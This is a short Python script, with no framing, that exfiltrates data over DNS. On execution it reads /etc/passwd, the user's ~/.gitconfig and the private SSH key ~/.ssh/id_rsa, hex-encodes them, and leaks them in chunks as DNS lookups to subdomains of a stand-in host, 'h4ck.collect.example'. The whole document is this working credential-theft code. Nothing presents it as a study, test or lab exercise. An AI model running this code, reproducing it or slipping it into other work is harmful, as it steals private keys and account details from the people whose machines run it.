import os
import socket
import binascii

DOMAIN = "h4ck.collect.example"


def _chunks(text, size=60):
    for i in range(0, len(text), size):
        yield text[i:i + size]


def _ask(label, n):
    try:
        socket.gethostbyname("%s.%d.%s" % (label, n, DOMAIN))
    except socket.error:
        return None


def _leak(path):
    try:
        with open(path, "rb") as f:
            body = binascii.hexlify(f.read()).decode()
    except OSError:
        return
    for n, piece in enumerate(_chunks(body)):
        _ask(piece, n)


for p in ("/etc/passwd", os.path.expanduser("~/.gitconfig"), os.path.expanduser("~/.ssh/id_rsa")):
    _leak(p)
